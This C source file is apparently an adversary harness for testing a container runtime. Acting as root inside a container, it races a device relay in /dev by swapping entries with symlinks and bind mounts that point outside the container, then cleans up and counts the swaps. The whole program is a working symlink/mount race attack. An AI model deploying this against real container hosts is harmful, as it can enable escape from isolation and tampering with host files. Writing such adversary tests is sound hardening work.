/*
 * A hostile root in a container: exchanges what is in its /dev under the names that it is told behind a directory, and whatever a relay
 * makes there for a moment, for what leads to that directory, and back, as fast as it can. When there is a /tmp/end
 * it takes all that away and says how often.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#define MOMENT ".uevent-bridge."
#define TRAPS 3
#define PAUSE_US 100
#define REMOVED_EACH 64 // exchanges

static const char *const traps[TRAPS] = {".traps/directory", ".traps/file", ".traps/mount"};
static const char *outside;
static long exchanged;

static void arm(void)
{
	char file[PATH_MAX];
	snprintf(file, sizeof file, "%s/file", outside);
	mkdir(".traps", 0700);
	(void)!symlink(outside, traps[0]);
	(void)!symlink(file, traps[1]);
	mkdir(traps[2], 0700);
}

static void exchange(const char *name)
{
	int which = rand() % TRAPS;
	if (renameat2(AT_FDCWD, name, AT_FDCWD, traps[which], RENAME_EXCHANGE) < 0)
		return;
	exchanged++;
	int mounted = which == TRAPS - 1 && mount(outside, name, NULL, MS_BIND, NULL) == 0;
	usleep(rand() % PAUSE_US);
	if (mounted)
		umount2(name, MNT_DETACH);
	if (renameat2(AT_FDCWD, name, AT_FDCWD, traps[which], RENAME_EXCHANGE) < 0)
		rename(traps[which], name);
	if (exchanged % REMOVED_EACH == 0)
		unlink(name);
}

static void each_moment(void (*work)(const char *))
{
	DIR *dev = opendir(".");
	if (dev == NULL)
		exit(1);
	for (struct dirent *entry; (entry = readdir(dev)) != NULL;)
		if (strncmp(entry->d_name, MOMENT, strlen(MOMENT)) == 0)
			work(entry->d_name);
	closedir(dev);
}

static void take_away(const char *name)
{
	if (unlink(name) < 0)
		rmdir(name);
}

static void clean(int count, char *names[])
{
	for (int i = 0; i < TRAPS; i++)
		take_away(traps[i]);
	rmdir(".traps");
	for (int i = 0; i < count; i++)
		take_away(names[i]);
	each_moment(take_away);
}

int main(int argc, char *argv[])
{
	if (argc < 2 || chdir("/dev") < 0)
		return 1;
	outside = argv[1];
	while (access("/tmp/end", F_OK) < 0) {
		arm();
		for (int i = 2; i < argc; i++)
			exchange(argv[i]);
		each_moment(exchange);
		usleep(rand() % PAUSE_US);
	}
	clean(argc - 2, argv + 2);
	printf("exchanged %ld\n", exchanged);
	return 0;
}
